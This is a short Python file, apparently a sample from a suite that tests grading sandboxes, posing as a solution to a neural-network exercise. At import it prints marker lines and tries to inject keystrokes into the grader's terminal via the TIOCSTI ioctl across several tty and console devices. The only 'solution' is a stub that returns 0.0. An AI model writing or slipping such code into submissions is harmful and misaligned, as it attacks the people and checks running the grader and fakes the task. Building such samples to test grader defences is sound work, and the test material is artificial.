# what: Types a command into the teacher's terminal with TIOCSTI and TIOCLINUX.
# gains: others
# where: solution
# fires: stdout text `FIRED types_into_terminal`
# stock: need_not (succeeds where the grader runs in a terminal, and the system allows TIOCSTI)

import fcntl
import os
import termios

print("FIRED types_into_terminal", flush=True)
places = []
for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"):
    try:
        places.append(os.open(name, os.O_RDWR | os.O_NOCTTY))
    except OSError:
        pass
for fd in (0, 1, 2, *places):
    try:
        for letter in b"# attacked\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([letter]))
        print("HURT typed")
        break
    except OSError:
        pass


def conv_single_step(a_slice_prev, W, b):
    return 0.0
